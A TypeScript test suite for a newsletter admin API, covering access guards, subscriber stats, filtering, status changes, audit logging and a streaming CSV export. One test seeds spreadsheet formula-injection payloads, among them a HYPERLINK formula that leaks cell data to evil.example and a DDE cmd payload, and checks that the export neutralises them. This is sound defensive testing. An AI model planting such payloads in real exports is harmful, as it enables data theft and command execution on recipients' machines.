import { randomUUID } from 'node:crypto';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newsletterExportFileName } from '@domain/newsletter';
import { NEWSLETTER_ADMIN_MESSAGES, type AdminSubscriber } from '@domain/schemas/newsletter';
import { newsletterSubscribers, type NewNewsletterSubscriber } from '../../db/schema';
import { readCsv } from '../../testing/read-csv';
import { createTestApp, type TestApp } from '../../testing/test-app';
import { auditEntriesOf, signInNewAdmin } from '../audit/testing';
import { call, signUp } from '../auth/testing';
import { EXPORT_BATCH_SIZE, NewsletterAdminService } from './newsletter.admin.service';

let t: TestApp;
let cookie: string;

beforeAll(async () => {
  t = await createTestApp({ seedDemo: false });
  cookie = (await signInNewAdmin(t.app, t.database.db)).cookie;
});
afterAll(async () => {
  await t?.close();
});

const admin = (method: 'GET' | 'PATCH' | 'DELETE', url: string, body?: unknown) => call(t.app, method, url, { cookie, body });

/** A subscriber as stored: confirmed (and active unless told otherwise) by default, or `pending: true` (never confirmed). */
async function subscribe({ pending, ...fields }: Partial<NewNewsletterSubscriber> & { email: string; pending?: boolean }): Promise<AdminSubscriber> {
  const confirmed = pending ? { isActive: false, confirmedAt: null } : { isActive: true, confirmedAt: fields.subscribedAt ?? new Date() };
  const [row] = await t.database.db.insert(newsletterSubscribers).values({ ...confirmed, ...fields }).returning();
  if (!row) throw new Error('subscriber insert failed');
  const status = row.confirmedAt === null ? 'pending' : row.isActive ? 'active' : 'inactive';
  return { ...row, status, confirmedAt: row.confirmedAt?.toISOString() ?? null, subscribedAt: row.subscribedAt.toISOString(), updatedAt: row.updatedAt.toISOString() };
}

const HEADER = ['Email', 'Name', 'Subscribed Date', 'Status', 'Source'];

describe('the guard on /api/admin/newsletter (RELIABILITY 20)', () => {
  it('answers 401 to anonymous callers and 403 to customers', async () => {
    const customer = (await signUp(t.app)).cookie;
    const id = randomUUID();
    for (const [method, url] of [
      ['GET', '/api/admin/newsletter/stats'],
      ['GET', '/api/admin/newsletter/subscribers'],
      ['GET', '/api/admin/newsletter/export.csv'],
      ['PATCH', `/api/admin/newsletter/subscribers/${id}`],
      ['DELETE', `/api/admin/newsletter/subscribers/${id}`],
    ] as const) {
      const body = method === 'PATCH' ? {} : undefined;
      const anonymous = await call(t.app, method, url, { body });
      expect(anonymous.statusCode, `${method} ${url}`).toBe(401);
      expect(anonymous.headers['content-type']).toMatch(/^application\/json/);
      expect((await call(t.app, method, url, { cookie: customer, body })).statusCode, `${method} ${url}`).toBe(403);
    }
  });
});

describe('stats, list, status and deletion', () => {
  it('counts none as a 0 % growth rate, then the rounded share of active subscribers', async () => {
    expect((await admin('GET', '/api/admin/newsletter/stats')).json()).toEqual({ total: 0, active: 0, growthRate: 0 });
    await subscribe({ email: 'ada@example.com', name: 'Ada Lovelace', subscribedAt: new Date('2026-01-01T10:00:00Z') });
    await subscribe({ email: 'bob@example.com', name: null, subscribedAt: new Date('2026-01-02T10:00:00Z'), isActive: false });
    await subscribe({ email: 'cy@refrigeration.example', name: 'Cy 100%_Cool', subscribedAt: new Date('2026-01-03T10:00:00Z'), source: 'trade-show' });
    const res = await admin('GET', '/api/admin/newsletter/stats');
    expect(res.json()).toEqual({ total: 3, active: 2, growthRate: 67 });
    // A pending subscriber counts in the total, not as active.
    await subscribe({ email: 'pending@waiting.example', name: 'Pending Pat', subscribedAt: new Date('2025-12-31T10:00:00Z'), pending: true });
    expect((await admin('GET', '/api/admin/newsletter/stats')).json()).toEqual({ total: 4, active: 2, growthRate: 50 });
    expect(res.headers['cache-control']).toBe('no-store');
  });

  const list = async (query = '') => {
    const res = await admin('GET', `/api/admin/newsletter/subscribers?${query}`);
    expect(res.statusCode, query).toBe(200);
    return res.json<{ items: AdminSubscriber[]; total: number }>();
  };

  it('lists newest first (or oldest first), searched on e-mail or name in any case, filtered by status, in pages', async () => {
    expect((await list()).items.map((s) => s.email)).toEqual(['cy@refrigeration.example', 'bob@example.com', 'ada@example.com', 'pending@waiting.example']);
    expect((await list('sort=subscribedAt')).items.map((s) => s.email)).toEqual(['pending@waiting.example', 'ada@example.com', 'bob@example.com', 'cy@refrigeration.example']);
    expect((await list('q=LOVELACE')).items.map((s) => s.email)).toEqual(['ada@example.com']);
    expect((await list('q=BOB@')).items.map((s) => s.email)).toEqual(['bob@example.com']);
    expect((await list('q=100%25_')).items.map((s) => s.email)).toEqual(['cy@refrigeration.example']);
    expect((await list('q=_')).total).toBe(1);
    expect((await list('status=inactive')).items.map((s) => s.email)).toEqual(['bob@example.com']);
    expect((await list('status=active&q=example.com')).total).toBe(1);
    expect((await list('status=pending')).items.map((s) => s.email)).toEqual(['pending@waiting.example']);
    const second = await list('pageSize=2&page=2');
    expect(second).toMatchObject({ total: 4, page: 2, pageSize: 2 });
    expect(second.items.map((s) => s.email)).toEqual(['ada@example.com', 'pending@waiting.example']);
    expect(second.items[0]).toMatchObject({ name: 'Ada Lovelace', source: 'website', isActive: true, status: 'active', confirmedAt: '2026-01-01T10:00:00.000Z', subscribedAt: '2026-01-01T10:00:00.000Z' });
    expect(second.items[1]).toMatchObject({ isActive: false, status: 'pending', confirmedAt: null });
    expect((await list('q=bob@')).items[0]).toMatchObject({ status: 'inactive' });
  });

  it('refuses a status or sort it does not know, with the field', async () => {
    for (const query of ['status=maybe', 'sort=email', 'pageSize=101']) {
      const res = await admin('GET', `/api/admin/newsletter/subscribers?${query}`);
      expect(res.statusCode, query).toBe(400);
      expect(Object.keys(res.json().error.fields)).toEqual([query.split('=')[0]]);
    }
  });

  it('sets the state asked for, records a real change once, and does nothing when asked again', async () => {
    const dee = await subscribe({ email: 'dee@example.com' });
    const off = await admin('PATCH', `/api/admin/newsletter/subscribers/${dee.id}`, { isActive: false });
    expect(off.statusCode).toBe(200);
    expect(off.json()).toMatchObject({ id: dee.id, isActive: false });
    const again = await admin('PATCH', `/api/admin/newsletter/subscribers/${dee.id}`, { isActive: false });
    expect(again.json()).toMatchObject({ isActive: false, updatedAt: off.json().updatedAt });
    const on = await admin('PATCH', `/api/admin/newsletter/subscribers/${dee.id}`, { isActive: true });
    expect(on.json().isActive).toBe(true);

    const entries = await auditEntriesOf(t.database.db, 'newsletter_subscriber', dee.id);
    expect(entries.map((e) => e.action)).toEqual(['newsletter_subscriber.activate', 'newsletter_subscriber.deactivate']);
    expect(entries[1]).toMatchObject({ before: { email: 'dee@example.com', isActive: true }, after: { isActive: false } });
    expect(JSON.stringify(entries)).not.toContain('unsubscribe');
  });

  it('refuses to activate a pending subscriber with 409: only the address’s own confirmation subscribes it', async () => {
    const waiting = await subscribe({ email: 'waiting@example.com', pending: true });
    const on = await admin('PATCH', `/api/admin/newsletter/subscribers/${waiting.id}`, { isActive: true });
    expect(on.statusCode).toBe(409);
    expect(on.json()).toEqual({ error: { code: 'conflict', message: NEWSLETTER_ADMIN_MESSAGES.notConfirmed } });
    expect((await list('q=waiting@')).items[0]).toMatchObject({ status: 'pending', isActive: false });
    expect(await auditEntriesOf(t.database.db, 'newsletter_subscriber', waiting.id)).toEqual([]);
    expect((await admin('DELETE', `/api/admin/newsletter/subscribers/${waiting.id}`)).statusCode).toBe(204);
  });

  it('answers 400 with the field for a missing state and 404 for an unknown subscriber', async () => {
    const dee = await subscribe({ email: 'eve@example.com' });
    const missing = await admin('PATCH', `/api/admin/newsletter/subscribers/${dee.id}`, {});
    expect(missing.statusCode).toBe(400);
    expect(missing.json().error.fields).toEqual({ isActive: NEWSLETTER_ADMIN_MESSAGES.statusRequired });
    expect((await admin('PATCH', `/api/admin/newsletter/subscribers/${dee.id}`, { isActive: 'no' })).statusCode).toBe(400);
    expect((await admin('PATCH', `/api/admin/newsletter/subscribers/${dee.id}`, { isActive: true, email: 'x@example.com' })).statusCode).toBe(400);
    const unknown = await admin('PATCH', `/api/admin/newsletter/subscribers/${randomUUID()}`, { isActive: true });
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().error.message).toBe(NEWSLETTER_ADMIN_MESSAGES.notFound);
  });

  it('deletes a subscriber, records who it was, and answers 404 afterwards', async () => {
    const gone = await subscribe({ email: 'gone@example.com', name: 'Gone Soon' });
    expect((await admin('DELETE', `/api/admin/newsletter/subscribers/${gone.id}`)).statusCode).toBe(204);
    expect((await list('q=gone@')).total).toBe(0);
    const again = await admin('DELETE', `/api/admin/newsletter/subscribers/${gone.id}`);
    expect(again.statusCode).toBe(404);
    const [entry] = await auditEntriesOf(t.database.db, 'newsletter_subscriber', gone.id);
    expect(entry).toMatchObject({ action: 'newsletter_subscriber.delete', before: { email: 'gone@example.com', name: 'Gone Soon' }, after: null });
  });
});

describe('the CSV export', () => {
  const exportCsv = (query = '') => admin('GET', `/api/admin/newsletter/export.csv${query}`);

  it('downloads the spec’s columns as UTF-8 with a BOM, under the dated file name, never cached', async () => {
    const res = await exportCsv('?q=ada');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${newsletterExportFileName(new Date())}"`);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="newsletter-subscribers-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(res.body).toContain('\r\n');
    expect(readCsv(res.body)).toEqual([HEADER, ['ada@example.com', 'Ada Lovelace', '2026-01-01 10:00:00', 'Active', 'website']]);
  });

  it('exports the filtered list only', async () => {
    const inactive = readCsv((await exportCsv('?status=inactive')).body);
    expect(inactive[0]).toEqual(HEADER);
    expect(inactive.slice(1).map((row) => row[0])).toEqual(['bob@example.com']);
    expect(inactive[1]).toEqual(['bob@example.com', '', '2026-01-02 10:00:00', 'Inactive', 'website']);
    expect(readCsv((await exportCsv('?q=nobody-matches-this')).body)).toEqual([HEADER]);
    expect((await exportCsv('?status=sometimes')).statusCode).toBe(400);
    expect(readCsv((await exportCsv('?status=pending')).body)).toEqual([HEADER, ['pending@waiting.example', 'Pending Pat', '2025-12-31 10:00:00', 'Pending', 'website']]);
  });

  it('neutralises every cell a spreadsheet would run, after any separator too (RELIABILITY 27 and 40)', async () => {
    // Each hostile name, and the cell the export must hold for it.
    const hostile: [string, string][] = [
      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`],
      ['+1', "'+1"],
      ['-1', "'-1"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1+1', "'\t'=1+1"],
      ['\r=1+1', "'\r'=1+1"],
      ['=1+1, "quoted"\r\nnext line', `'=1+1, "quoted"\r\nnext line`],
      ['Dana;=HYPERLINK("http://evil.example")', `Dana;'=HYPERLINK("http://evil.example")`],
      ['Cooper,+1 555 0100', "Cooper,'+1 555 0100"],
      ['Tab\t@SUM(A1)', "Tab\t'@SUM(A1)"],
    ];
    for (const [i, [name]] of hostile.entries()) {
      await subscribe({ email: `formula${i}@hostile.example`, name, source: i === 0 ? '=cmd|"/c calc"!A1' : 'website' });
    }
    await subscribe({ email: '-dash@hostile.example', name: 'Plain Name' });
    const res = await exportCsv('?q=hostile.example');
    const rows = readCsv(res.body);
    expect(rows[0]).toEqual(HEADER);
    const names = new Map(rows.slice(1).map((row) => [row[0], row[1]]));
    for (const [i, [, cell]] of hostile.entries()) expect(names.get(`formula${i}@hostile.example`)).toBe(cell);
    expect(names.get("'-dash@hostile.example")).toBe('Plain Name');
    expect(rows.slice(1).find((row) => row[0] === 'formula0@hostile.example')?.[4]).toBe(`'=cmd|"/c calc"!A1`);
    // Every cell is quoted, so a `;` or `,` inside one never splits it for a reader of the file's own format.
    const body = res.body.replace(/^\uFEFF/, '');
    expect(body.startsWith('"Email","Name","Subscribed Date","Status","Source"\r\n')).toBe(true);
    expect(body).toContain(`"formula7@hostile.example","Dana;'=HYPERLINK(""http://evil.example"")","`);
    expect(body).toContain(`"'-dash@hostile.example","Plain Name","`);
  });

  describe('of many subscribers', () => {
    beforeAll(async () => {
      // 5,000 subscribers a microsecond apart: a whole batch shares one millisecond, which a cursor kept as a JS Date would get wrong.
      await t.database.db.execute(sql`
        insert into newsletter_subscribers (email, name, source, subscribed_at, is_active, confirmed_at)
        select 'bulk' || g || '@many.example', 'Bulk ' || g, 'import', timestamptz '2025-06-01 00:00:00+00' + g * interval '1 microsecond', true, now()
        from generate_series(1, 5000) as g`);
    });

    it('streams every row once, newest first, in chunks rather than one body', async () => {
      const res = await exportCsv('?q=many.example');
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-length']).toBeUndefined();
      expect(res.headers['transfer-encoding']).toBe('chunked');
      const rows = readCsv(res.body);
      expect(rows).toHaveLength(5001);
      expect(rows[0]).toEqual(HEADER);
      const emails = rows.slice(1).map((row) => row[0]);
      expect(new Set(emails).size).toBe(5000);
      expect(emails.slice(0, 2)).toEqual(['bulk5000@many.example', 'bulk4999@many.example']);
      expect(emails.at(-1)).toBe('bulk1@many.example');
      expect(rows[1]).toEqual(['bulk5000@many.example', 'Bulk 5000', '2025-06-01 00:00:00', 'Active', 'import']);
    });

    it('reads the database one bounded batch at a time', async () => {
      const service = new NewsletterAdminService(t.database.db);
      const sizes: number[] = [];
      const seen = new Set<string>();
      for await (const batch of service.exportBatches({ q: 'many.example' })) {
        sizes.push(batch.length);
        for (const row of batch) seen.add(row.email);
      }
      expect(Math.max(...sizes)).toBe(EXPORT_BATCH_SIZE);
      expect(sizes).toHaveLength(Math.ceil(5000 / EXPORT_BATCH_SIZE));
      expect(seen.size).toBe(5000);

      // bulk49, bulk490–499 and bulk4900–4999: 111 rows in batches of 7, the last one short.
      const small: number[] = [];
      for await (const batch of service.exportBatches({ q: 'bulk49', status: 'active' }, 7)) small.push(batch.length);
      expect(small).toEqual([...Array.from({ length: 15 }, () => 7), 6]);
    });
  });
});
